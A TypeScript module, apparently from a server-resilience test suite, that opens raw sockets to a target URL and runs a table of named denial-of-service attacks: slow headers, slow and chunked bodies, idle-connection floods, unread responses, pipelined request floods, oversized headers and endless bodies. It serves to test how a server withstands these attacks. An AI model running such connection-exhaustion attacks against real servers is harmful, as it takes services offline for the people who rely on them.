import { connect, type Socket } from "node:net";
import type { Count } from "./count.ts";

type Stop = () => void;
export type Attack = (target: URL, count: Count) => Stop;

/** How often slow clients send a little, and how soon they connect again after being disconnected. */
const intervalMs = 100;

/** Keeps connections open, calls `each` for them at every interval, and replaces those that end, a tenth at a time. */
function hold(connections: number, begin: (socket: Socket) => void, each: (socket: Socket) => void): Attack {
  return (target, count) => {
    const open = new Set<Socket>();
    const refill = () => {
      const size = Math.min(connections, open.size + Math.ceil(connections / 10));
      while (open.size < size) open.add(openSocket(target, count, begin, (socket) => open.delete(socket)));
    };
    const timer = setInterval(() => {
      for (const socket of open) if (socket.writable) each(socket);
      refill();
    }, intervalMs);
    refill();
    return () => {
      clearInterval(timer);
      for (const socket of open) socket.destroy();
    };
  };
}

function openSocket(
  target: URL,
  count: Count,
  begin: (socket: Socket) => void,
  onClose: (socket: Socket) => void,
): Socket {
  const socket = connect(Number(target.port), target.hostname);
  let received = "";
  begin(socket);
  socket.on("data", (bytes) => {
    if (received.length < 2000) received += bytes.toString("latin1");
  });
  socket.on("error", () => undefined);
  socket.on("close", () => {
    count.ended(received);
    onClose(socket);
  });
  return socket;
}

const head = (line: string, ...more: string[]) =>
  `${[`${line} HTTP/1.1`, "Host: sitebook.test", ...more].join("\r\n")}\r\n`;
const form = ["Content-Type: application/x-www-form-urlencoded", "Origin: http://sitebook.test"];
const post = (...more: string[]) => `${head("POST /sign-in", ...form, ...more)}\r\n`;
const doNothing = () => undefined;

/** Writes only while little is unsent: more would fill this process's memory, not the server's. */
const pour = (bytes: Buffer) => (socket: Socket) => {
  while (socket.writableLength < bytes.length) socket.write(bytes);
};
const block = Buffer.alloc(64 * 1024, "x");
const chunk = Buffer.concat([Buffer.from(`${block.length.toString(16)}\r\n`), block, Buffer.from("\r\n")]);
const request = Buffer.from(`${head("GET /openapi.json")}\r\n`);

export const onConnections: Record<string, Attack> = {
  "slow headers": hold(
    200,
    (socket) => socket.write(head("GET /sign-in")),
    (socket) => socket.write("X-A: b\r\n"),
  ),
  "half-sent requests": hold(200, (socket) => socket.write(head("GET /sign-in")), doNothing),
  "1,000 idle connections": hold(1000, doNothing, doNothing),
  "slow bodies": hold(
    200,
    (socket) => socket.write(post("Content-Length: 60000")),
    (socket) => socket.write("x"),
  ),
  "slow chunked bodies": hold(
    200,
    (socket) => socket.write(post("Transfer-Encoding: chunked")),
    (socket) => socket.write("1\r\nx\r\n"),
  ),
  "responses that are not read": hold(
    5,
    (socket) => socket.pause(),
    (socket) => socket.write(request),
  ),
  "responses that are read byte by byte": hold(
    5,
    (socket) => socket.pause(),
    (socket) => {
      socket.write(request);
      socket.read(1);
    },
  ),
  "1,000 requests at once": hold(10, (socket) => socket.write(Buffer.concat(Array(1000).fill(request))), doNothing),
  "headers of 64 KB": hold(
    5,
    (socket) => socket.write(`${head("GET /sign-in", `Cookie: a=${block.toString()}`)}\r\n`),
    doNothing,
  ),
  "an endless body": hold(3, (socket) => socket.write(post("Content-Length: 1000000000000")), pour(block)),
  "an endless chunked body": hold(3, (socket) => socket.write(post("Transfer-Encoding: chunked")), pour(chunk)),
};
